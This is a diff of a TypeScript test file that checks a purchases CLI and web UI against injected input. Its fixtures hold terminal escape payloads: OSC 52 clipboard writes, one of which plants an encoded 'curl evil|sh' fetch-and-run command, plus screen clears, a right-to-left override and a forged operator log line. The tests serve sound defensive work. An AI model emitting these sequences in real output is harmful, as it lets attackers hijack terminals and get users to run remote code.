@@ -1,5 +1,8 @@
+import { datacodeProgram } from '../../cli/program';
 import { timelineInWords } from '../../cli/purchases/show';
+import { EXIT } from '../../cli/terminal/exit-codes';
 import { print, tell } from '../../cli/terminal/output';
+import { runProgram } from '../../cli/terminal/run-program';
 import { terminalLine } from '../../dev/supervisor/terminal-line';
 import { acceptedPurchase } from '../../domain/purchase/purchase';
 import type { Timeline } from '../../operators/timeline';
@@ -9,6 +12,9 @@ import { anOrder } from '../support/orders';
 /** What a channel wrote as its reason for a cancellation: a decision of an operator on a line of its own, and OSC 52. */
 const FORGED = `changed my mind
   10:00 29/11/2026 charge_was_not_done by ops@agent: MobiFone confirmed by phone\u001b]52;c;Y3VybCBldmlsfHNo\u0007`;
+
+/** A word of a command line that writes to the clipboard, clears the screen and turns what follows. */
+const HOSTILE = '\u001b]52;c;Y3VybA\u0007\u001b[2J\u202e\nforged';
 
 const purchase = acceptedPurchase(anOrder());
 const timeline: Timeline = {
@@ -78,5 +84,28 @@ describe('what a channel wrote, in the Web UI', () => {
     const story = purchaseStory({ ...purchase, attention });
     expect(story).toContain('`[log in](https://evil.example)\\u000a\\u000a**Next:** pay again`');
     expect(story.match(/^\*\*Next/gm)).toHaveLength(1);
+  });
+});
+
+describe('a word that a command was given', () => {
+  afterEach(() => void (process.exitCode = undefined));
+
+  it.each([
+    [['purchases', HOSTILE]],
+    [['purchases', 'show', HOSTILE]],
+    [['purchases', 'settle', 'demo/1', HOSTILE]],
+    [['purchases', 'pause', HOSTILE]],
+    [['batches', 'show', HOSTILE]],
+    [['cases', 'show', HOSTILE]],
+    [['reconcile', 'run', '--date', HOSTILE]],
+    [['reconcile', 'layout', `/nowhere/${HOSTILE}`]],
+    [['export', '--from', HOSTILE]],
+    [['gateway', 'check', '--msisdn', HOSTILE]],
+  ])('is shown in the one line that refuses it, and nothing in it is obeyed: %j', async (words) => {
+    await runProgram(datacodeProgram(), words);
+    expect(process.exitCode).toBe(EXIT.couldNotRun);
+    expect(written).not.toBe('');
+    expect(written.replaceAll('\n', '')).not.toMatch(OBEYED);
+    expect(written).not.toMatch(/^forged/m);
   });
 });
